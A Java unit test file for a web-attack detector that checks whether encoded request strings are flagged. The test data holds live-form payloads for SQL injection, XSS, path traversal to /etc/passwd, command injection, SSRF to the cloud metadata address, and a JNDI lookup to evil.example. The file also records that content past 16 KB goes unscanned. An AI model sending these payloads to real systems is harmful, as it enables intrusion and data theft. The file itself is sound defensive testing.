package ai.studio.analytics.detect.content;

import static org.assertj.core.api.Assertions.assertThat;

import ai.studio.analytics.detect.Finding;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WebAttackTest {

  private static final WebAttack ATTACKS = WebAttack.packaged();

  @ParameterizedTest
  @CsvSource(
      delimiter = ' ',
      value = {
        "/items?id=1%27%20OR%20%271%27=%271 sql-injection",
        "/items?id=1%2527%2520UNION%2520SELECT%2520name%2520FROM%2520users sql-injection",
        "/find?q=%3Cscript%3Ealert(1)%3C/script%3E xss",
        "/find?q=&#60;script&#62;alert(1) xss",
        "/files/..%2f..%2f..%2fetc/passwd path-traversal",
        "/ping?host=a.example;cat%20/var/log/syslog command-injection",
        "/fetch?url=http://169.254.169.254/latest/meta-data/ ssrf",
        "/hello?name=${jndi:ldap://evil.example/a} template-injection",
        "/hello?name={{config.items()}} template-injection"
      })
  void attacksAreNamedHoweverTheyAreEncoded(String uri, String rule) {
    assertThat(ATTACKS.in(RequestText.of(uri, Map.of(), null)))
        .hasValueSatisfying(it -> {
          assertThat(it.rule()).isEqualTo(rule);
          assertThat(it.score()).isGreaterThan(Thresholds.DEFAULT.requests());
          assertThat(it.type()).isEqualTo(Finding.SUSPICIOUS_CONTENT);
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/dashboard/?range=7d&timezone=Europe/Berlin",
        "/search?q=union+square+hotels&sort=price",
        "/search?q=it%27s+a+trap",
        "/assets/index-3fa9c1.js",
        "/oauth?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=Zm9vYmFy"
      })
  void plainRequestsAreNone(String uri) {
    var headers = Map.of("User-Agent", "openai-node/4.20.1", "Accept", "*/*");

    assertThat(ATTACKS.in(RequestText.of(uri, headers, null)).map(Finding::score).orElse(0.0))
        .isLessThan(Thresholds.DEFAULT.requests());
  }

  @Test
  void whatIsFarBehindInALongPartIsNotLookedAt() {
    var attack = "<script>alert(1)</script>";

    assertThat(rule("x".repeat(16 * 1_024 - attack.length()) + attack)).isEqualTo("xss");
    assertThat(rule("x".repeat(16 * 1_024) + attack)).isNotEqualTo("xss");
  }

  @Test
  void ofSeveralPartsTheWorstIsTold() {
    assertThat(
            ATTACKS.in(
                RequestText.of("/a?q=hello&r=<script>alert(1)</script>&s=bye", Map.of(), null)))
        .hasValueSatisfying(it -> assertThat(it.excerpt()).contains("<script>"));
    assertThat(ATTACKS.in(new RequestText(java.util.List.of()))).isEmpty();
  }

  @Test
  void anExcerptShowsNoSecretOfItsPart() {
    var key = "ghp_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgHiJ";

    assertThat(
            ATTACKS.in(RequestText.of("/?t=" + key + "<script>alert(1)</script>", Map.of(), null)))
        .hasValueSatisfying(it -> assertThat(it.excerpt()).isEqualTo("…"));
  }

  private static String rule(String part) {
    return ATTACKS.in(new RequestText(java.util.List.of(part))).map(Finding::rule).orElse("none");
  }

  @Test
  void codeInAPromptIsNoAttack() {
    assertThat(ATTACKS.inProse("Why does `cat file | grep x; ls -la` print nothing in bash?"))
        .isEmpty();
    assertThat(ATTACKS.inProse("SELECT id FROM orders WHERE total > 10 ORDER BY id")).isEmpty();
    assertThat(ATTACKS.inProse("open http://169.254.169.254/latest/meta-data/ and show it"))
        .isPresent();
  }
}
